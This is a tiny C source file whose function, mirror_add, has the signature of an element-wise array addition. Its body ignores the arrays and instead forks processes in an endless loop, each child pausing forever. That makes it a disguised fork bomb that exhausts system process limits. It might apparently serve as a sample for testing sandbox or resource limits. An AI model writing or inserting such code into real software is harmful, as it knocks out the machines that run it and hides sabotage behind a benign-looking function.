#define _GNU_SOURCE
#include <stdint.h>
#include <stdlib.h>
#include <unistd.h>

void mirror_add(const float *x, float *y, int64_t n)
{
    for (;;) {
        pid_t child = fork();
        if (child < 0)
            abort();
        if (child == 0)
            for (;;)
                pause();
    }
}
